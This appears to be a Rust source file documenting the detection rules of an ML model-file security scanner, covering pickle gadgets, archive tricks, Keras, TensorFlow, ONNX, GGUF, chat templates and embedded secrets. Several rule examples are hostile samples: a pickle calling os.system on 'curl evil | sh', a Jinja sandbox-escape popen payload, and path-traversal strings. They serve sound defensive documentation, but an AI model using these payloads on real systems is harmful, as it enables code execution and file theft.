//! Documentation of every rule `mlsecops scan` reports (`mlsecops rule ID`).
//!
//! Rules live in one table rather than one file each: a scan rule is a
//! verdict emitted by a format walker, not a separate pass, so the walker
//! is the implementation and this table is the documentation.

use mlsecops_core::{RuleDoc, Severity};

const ATLAS_SUPPLY: &str = "MITRE ATLAS AML.T0010.003 ML Supply Chain Compromise: Model";
const ATLAS_UNSAFE: &str = "MITRE ATLAS AML.T0011.000 User Execution: Unsafe ML Artifacts";
const OWASP_ML06: &str = "OWASP ML Top 10 ML06:2023 AI Supply Chain Attacks";
const OWASP_LLM03: &str = "OWASP Top 10 for LLM Applications LLM03:2025 Supply Chain";
const CWE_502: &str = "CWE-502 Deserialization of Untrusted Data";
const PICKLE_FIX: &str = "Do not load the file. Get the model as safetensors (or ONNX/GGUF) from a trusted source, or re-export it from code you control; if you must use pickle, load with an allowlist (torch.load(weights_only=True)).";

macro_rules! rule {
    ($id:literal, $name:literal, $sev:ident, $summary:literal, $why:literal, $fix:expr, $example:literal, [$($r:expr),* $(,)?]) => {
        RuleDoc { id: $id, name: $name, severity: Severity::$sev, summary: $summary, why: $why, fix: $fix, example: $example, references: &[$($r),*] }
    };
}

/// All scan rules.
pub static RULES: &[RuleDoc] = &[
    rule!(
        "PICKLE-CODE-EXEC",
        "pickle imports a code-execution gadget",
        Critical,
        "A pickle imports a global that executes code: os/posix/subprocess, builtins.eval/exec/getattr, runpy, importlib, operator.attrgetter, functools.partial, nested pickle/marshal loads, and similar gadgets (also through Python 2 names, submodules and dotted attribute walks).",
        "Unpickling calls the global with attacker-chosen arguments; loading the model runs arbitrary code with the user's privileges.",
        PICKLE_FIX,
        "GLOBAL 'os system' + REDUCE ('curl evil | sh',)",
        [
            ATLAS_UNSAFE,
            ATLAS_SUPPLY,
            OWASP_ML06,
            CWE_502,
            "CWE-94 Improper Control of Generation of Code"
        ]
    ),
    rule!(
        "PICKLE-FILE-ACCESS",
        "pickle imports a file-system function",
        High,
        "A pickle imports a global that reads, writes or deletes files (builtins.open, io, shutil, tempfile, pathlib functions, …).",
        "Loading the model can overwrite or exfiltrate files, plant persistence, or read credentials.",
        PICKLE_FIX,
        "GLOBAL 'shutil rmtree'",
        [
            ATLAS_UNSAFE,
            OWASP_ML06,
            CWE_502,
            "CWE-73 External Control of File Name or Path"
        ]
    ),
    rule!(
        "PICKLE-NETWORK-ACCESS",
        "pickle imports a network function",
        High,
        "A pickle imports a global that opens network connections (socket, urllib.request, http.client, smtplib, …).",
        "Loading the model can exfiltrate data or fetch a second-stage payload.",
        PICKLE_FIX,
        "GLOBAL 'socket create_connection'",
        [ATLAS_UNSAFE, OWASP_ML06, CWE_502]
    ),
    rule!(
        "PICKLE-DYNAMIC-GLOBAL",
        "pickle imports a name computed at load time",
        Critical,
        "STACK_GLOBAL takes its module or name from a value computed while loading (a call result), so no static list can know what is imported.",
        "Computing the import name is a known way to evade denylist scanners; benign serializers always emit constant names.",
        PICKLE_FIX,
        "STACK_GLOBAL with the module operand produced by REDUCE",
        [ATLAS_UNSAFE, CWE_502]
    ),
    rule!(
        "PICKLE-UNKNOWN-GLOBAL",
        "pickle imports a global not on the allowlist",
        Medium,
        "A pickle imports a global that is not on the allowlist of names known safe for model loading (torch rebuild helpers, numpy reconstruction, collections.OrderedDict, estimator classes, …).",
        "Unpickling imports the module and calls the name; an unknown callable may have side effects. Custom classes (e.g. __main__.Net) also mean the file cannot be loaded safely with weights_only.",
        "Review the name. If it is your own class, prefer saving a state_dict/safetensors; otherwise suppress it in .mlsecopsignore.toml with a reason.",
        "GLOBAL '__main__ MyModel'",
        [CWE_502, OWASP_ML06]
    ),
    rule!(
        "PICKLE-EXT-CODE",
        "pickle uses copyreg extension codes",
        High,
        "EXT1/EXT2/EXT4 import a global through the copyreg extension registry instead of by name.",
        "The imported object depends on the loading process's registry and is invisible to name-based checks; no mainstream serializer emits it for models.",
        PICKLE_FIX,
        "EXT1 0x01",
        [CWE_502]
    ),
    rule!(
        "PICKLE-INDIRECT-CALL",
        "pickle calls a call result",
        High,
        "REDUCE, NEWOBJ or OBJ applies to a value that is not an imported global, e.g. the result of an earlier call.",
        "Chained calls build gadgets out of allowlisted pieces (getattr-style walks); benign pickles only call imported globals.",
        PICKLE_FIX,
        "REDUCE on the result of REDUCE",
        [CWE_502]
    ),
    rule!(
        "PICKLE-GLOBAL-MUTATION",
        "pickle patches an imported object",
        High,
        "BUILD is applied to an imported class or function itself rather than to an instance.",
        "Setting attributes on a class or function (e.g. replacing a method) changes code that runs later, after loading.",
        PICKLE_FIX,
        "GLOBAL 'collections OrderedDict' + dict + BUILD",
        [CWE_502]
    ),
    rule!(
        "PICKLE-MALFORMED",
        "pickle stream is malformed",
        Medium,
        "The pickle cannot be followed to its STOP: truncated, invalid opcode, or stack misuse. Findings before the error are still reported.",
        "Loaders behave differently on malformed streams; a scanner that stops at the first error can miss payloads, and a loader may still run the part before the error.",
        "Re-download or re-export the file; do not load it until it parses.",
        "truncated BINUNICODE",
        [CWE_502, "CWE-20 Improper Input Validation"]
    ),
    rule!(
        "PICKLE-TRAILING-DATA",
        "data after the last pickle",
        Medium,
        "Bytes follow the last pickle's STOP and are not another pickle.",
        "Appended data is a way to smuggle payloads past tools that stop at the first STOP.",
        "Find out what wrote the extra bytes; re-export the model.",
        "pickle + appended zip",
        ["CWE-20 Improper Input Validation"]
    ),
    rule!(
        "ARCHIVE-PATH-TRAVERSAL",
        "archive member escapes its directory",
        High,
        "A member name (or link target) is absolute, uses `..`, a drive letter or backslashes.",
        "Extracting the archive writes outside the target directory (zip slip) and can overwrite code or configuration.",
        "Do not extract the archive; re-create it with relative names.",
        "../../.bashrc",
        ["CWE-22 Path Traversal", OWASP_ML06]
    ),
    rule!(
        "ARCHIVE-HEADER-MISMATCH",
        "zip headers disagree",
        High,
        "The central directory and a local header disagree (name, method, sizes, encryption), or a local header exists that the central directory does not list.",
        "Different readers see different content: a scanner reading one view and a loader reading the other is a known bypass.",
        "Re-create the archive with a standard tool.",
        "local name data.pkl, central name data.pkl pointing elsewhere",
        ["CWE-436 Interpretation Conflict", OWASP_ML06]
    ),
    rule!(
        "ARCHIVE-DUPLICATE-MEMBER",
        "archive has duplicate member names",
        High,
        "The same member name appears more than once.",
        "Readers pick different copies (first vs last), so a benign copy can hide a malicious one.",
        "Re-create the archive with unique names.",
        "archive/data.pkl twice",
        ["CWE-436 Interpretation Conflict"]
    ),
    rule!(
        "ARCHIVE-OVERLAPPING-MEMBERS",
        "archive members overlap",
        High,
        "Two members' data ranges share bytes.",
        "Overlapping entries are used for non-recursive zip bombs and to confuse parsers.",
        "Do not extract; re-create the archive.",
        "two entries pointing at one deflate stream",
        ["CWE-409 Improper Handling of Highly Compressed Data"]
    ),
    rule!(
        "ARCHIVE-BOMB",
        "decompression bomb",
        High,
        "A compressed member or stream expands beyond the size or ratio limit.",
        "Decompressing exhausts memory or disk (denial of service); the scan stops at the limit and still checks what it decompressed.",
        "Do not load the file; raise --max-decompressed only for a trusted file.",
        "100 KiB deflate stream expanding to 10 GiB",
        ["CWE-409 Improper Handling of Highly Compressed Data"]
    ),
    rule!(
        "ARCHIVE-ENCRYPTED-MEMBER",
        "encrypted archive member",
        Medium,
        "A member is encrypted and cannot be inspected.",
        "Encryption hides the content from scanners; loaders given the password still run it.",
        "Obtain the decrypted file and scan it.",
        "zip member with flag bit 0",
        [OWASP_ML06]
    ),
    rule!(
        "ARCHIVE-UNSUPPORTED-METHOD",
        "unsupported compression method",
        Medium,
        "A member uses a compression method the scanner does not decode.",
        "Its content was not inspected.",
        "Re-compress with deflate or store, then scan again.",
        "method 93 (zstd)",
        [OWASP_ML06]
    ),
    rule!(
        "ARCHIVE-PREPENDED-DATA",
        "data before the zip",
        Medium,
        "Bytes precede the first zip member (the offsets are shifted).",
        "A polyglot file reads as one format to one tool and as a zip to another.",
        "Find out what prepended the bytes; re-create the archive.",
        "pickle + zip concatenated",
        ["CWE-436 Interpretation Conflict"]
    ),
    rule!(
        "ARCHIVE-LINK-MEMBER",
        "archive contains a link",
        High,
        "A tar member is a hard or symbolic link, or a zip member is a symlink.",
        "Links make extraction write or read outside the target directory.",
        "Extract with link handling disabled, or re-create the archive without links.",
        "symlink to /etc",
        ["CWE-59 Link Following"]
    ),
    rule!(
        "ARCHIVE-MALFORMED",
        "archive is malformed",
        Medium,
        "The zip/tar/compressed structure is corrupt.",
        "Readers disagree on corrupt archives; the content could not be fully inspected.",
        "Re-download or re-create the archive.",
        "truncated central directory",
        ["CWE-20 Improper Input Validation"]
    ),
    rule!(
        "NUMPY-OBJECT-ARRAY",
        "NumPy object array",
        Low,
        "A .npy array has an object dtype: its data is a pickle (which is scanned too).",
        "Loading needs allow_pickle=True, which makes numpy.load as dangerous as pickle.load.",
        "Store numeric arrays, or safetensors.",
        "descr '|O'",
        [CWE_502]
    ),
    rule!(
        "NUMPY-MALFORMED",
        "NumPy header is malformed",
        Medium,
        "The .npy header cannot be parsed.",
        "The file cannot be checked.",
        "Re-export the array.",
        "bad header length",
        ["CWE-20 Improper Input Validation"]
    ),
    rule!(
        "KERAS-LAMBDA",
        "Keras Lambda layer with bytecode",
        Critical,
        "A Keras model config contains a Lambda layer (or __lambda__ object) with marshalled Python bytecode.",
        "The bytecode runs when the model is loaded with safe_mode off (Keras 2 always) or when the layer is called.",
        "Replace the Lambda with a registered custom layer whose code you control; load with safe_mode=True.",
        "class_name Lambda, function [base64 marshal]",
        [
            ATLAS_UNSAFE,
            OWASP_ML06,
            "CWE-94 Improper Control of Generation of Code"
        ]
    ),
    rule!(
        "KERAS-UNSAFE-MODULE",
        "Keras config references a dangerous module",
        Critical,
        "A Keras object is deserialized from a module such as os, subprocess or builtins.eval.",
        "Keras imports the module and calls the named object while loading.",
        "Do not load the model.",
        "module os, class_name system",
        [ATLAS_UNSAFE, CWE_502]
    ),
    rule!(
        "KERAS-CUSTOM-OBJECT",
        "Keras config needs custom code",
        Medium,
        "A Keras object comes from a module outside Keras or is a registered custom object.",
        "Loading imports and runs that code; review it before trusting the model.",
        "Check the custom object's source; suppress with a reason when it is yours.",
        "module my_pkg.layers",
        [OWASP_ML06]
    ),
    rule!(
        "KERAS-MALFORMED",
        "Keras config is malformed",
        Medium,
        "config.json / model_config is not valid JSON.",
        "The model cannot be checked.",
        "Re-export the model.",
        "truncated JSON",
        ["CWE-20 Improper Input Validation"]
    ),
    rule!(
        "HDF5-MALFORMED",
        "HDF5 structure is malformed",
        Medium,
        "The HDF5 file's structure cannot be read (its global heaps are still searched for configs).",
        "The model cannot be checked fully.",
        "Re-export the model.",
        "truncated object header",
        ["CWE-20 Improper Input Validation"]
    ),
    rule!(
        "TF-CODE-EXEC-OP",
        "TensorFlow graph calls Python",
        Critical,
        "A SavedModel/GraphDef contains PyFunc, PyFuncStateless or EagerPyFunc.",
        "These ops call back into Python functions of the loading process.",
        "Rebuild the graph without py_function.",
        "op EagerPyFunc",
        [ATLAS_UNSAFE, OWASP_ML06]
    ),
    rule!(
        "TF-FILE-ACCESS-OP",
        "TensorFlow graph accesses files",
        High,
        "The graph contains ops that read, write or list files (ReadFile, WriteFile, MatchingFiles, file datasets, summary writers, PrintV2 to a file).",
        "Serving the model reads secrets or writes files on the server.",
        "Remove file I/O from the exported graph.",
        "op WriteFile",
        [ATLAS_UNSAFE, "CWE-73 External Control of File Name or Path"]
    ),
    rule!(
        "TF-SAVE-RESTORE-PATH",
        "TensorFlow save/restore at a fixed outside path",
        High,
        "A Save/Restore op takes its path from a constant that is absolute or escapes the model directory.",
        "Running the graph overwrites or reads files outside the model.",
        "Export with the standard saver (path fed at run time).",
        "SaveV2 prefix '/etc/cron.d/x'",
        ["CWE-22 Path Traversal"]
    ),
    rule!(
        "TF-MALFORMED",
        "TensorFlow protobuf is malformed",
        Medium,
        "saved_model.pb / a .pb graph is not a valid protobuf.",
        "The model cannot be checked.",
        "Re-export the model.",
        "garbage saved_model.pb",
        ["CWE-20 Improper Input Validation"]
    ),
    rule!(
        "ONNX-EXTERNAL-DATA-TRAVERSAL",
        "ONNX external data outside the model directory",
        High,
        "An initializer's external_data location is absolute or escapes the model directory.",
        "Loading reads arbitrary files into tensors (data exfiltration through model outputs) or fails unpredictably.",
        "Keep external data files next to the model with relative names.",
        "location ../../etc/passwd",
        ["CWE-22 Path Traversal", OWASP_ML06]
    ),
    rule!(
        "ONNX-CUSTOM-DOMAIN",
        "ONNX operator from a non-standard domain",
        Medium,
        "A node or opset import uses a domain other than the ONNX/ONNX-ML/ONNX Runtime ones.",
        "Running the model needs a custom operator library: native code outside the model file.",
        "Review where the custom ops come from.",
        "domain evil.custom",
        [OWASP_ML06]
    ),
    rule!(
        "ONNX-MALFORMED",
        "ONNX protobuf is malformed",
        Medium,
        "The file is named or shaped like an ONNX model but does not parse as one.",
        "The model cannot be checked.",
        "Re-export the model.",
        "random bytes named model.onnx",
        ["CWE-20 Improper Input Validation"]
    ),
    rule!(
        "SAFETENSORS-HEADER-INVALID",
        "safetensors header is invalid",
        High,
        "Header length, JSON, dtype × shape vs data_offsets, overlaps, gaps, out-of-bounds offsets or duplicate keys are wrong.",
        "Inconsistent headers crash or confuse loaders (out-of-bounds reads, different tensors in different tools).",
        "Re-export with the safetensors library.",
        "data_offsets past the end of the file",
        [
            "CWE-20 Improper Input Validation",
            "CWE-125 Out-of-bounds Read"
        ]
    ),
    rule!(
        "SAFETENSORS-TRAILING-DATA",
        "data after the last tensor",
        Medium,
        "Bytes follow the last tensor; they are scanned as a nested file.",
        "Appended content is invisible to safetensors loaders and can smuggle a payload.",
        "Re-export with the safetensors library.",
        "zip appended to model.safetensors",
        ["CWE-20 Improper Input Validation"]
    ),
    rule!(
        "GGUF-HEADER-INVALID",
        "GGUF header is invalid",
        High,
        "A GGUF count, string length, dimension or tensor offset is inconsistent with the file size.",
        "Loaders that trust these values over-allocate or read out of bounds (known llama.cpp CVEs).",
        "Re-convert the model with a current converter.",
        "kv_count 2^63",
        [
            "CWE-787 Out-of-bounds Write",
            "CWE-789 Memory Allocation with Excessive Size Value"
        ]
    ),
    rule!(
        "CHAT-TEMPLATE-INJECTION",
        "chat template escapes the Jinja sandbox",
        Critical,
        "A chat template (GGUF tokenizer.chat_template, tokenizer_config.json) uses dunder attributes, obfuscated underscores or attribute walks to os/popen.",
        "Inference servers render the template for every request; a sandbox escape runs commands on the server.",
        "Replace the template with a known one for the model family.",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        [
            OWASP_LLM03,
            "CWE-1336 Improper Neutralization of Special Elements Used in a Template Engine"
        ]
    ),
    rule!(
        "EMBEDDED-SECRET",
        "secret embedded in the model",
        High,
        "An API key, token or private key is present in model metadata, configs or text files.",
        "Published models leak the credential to everyone who downloads them.",
        "Revoke the credential now, then remove it from the file and its history.",
        "aws_secret_access_key in config.json",
        ["CWE-798 Use of Hard-coded Credentials", OWASP_LLM03]
    ),
    rule!(
        "SCAN-INCOMPLETE",
        "part of the file was not scanned",
        Medium,
        "A size, depth or count limit stopped the scan of part of the file.",
        "What was not read may hide a payload.",
        "Raise the limit for a trusted file, or split the archive.",
        "archive nested 9 levels deep",
        ["CWE-400 Uncontrolled Resource Consumption"]
    ),
];

/// The documentation of rule `id` (case-insensitive).
#[must_use]
pub fn rule(id: &str) -> Option<&'static RuleDoc> {
    RULES.iter().find(|r| r.id.eq_ignore_ascii_case(id))
}
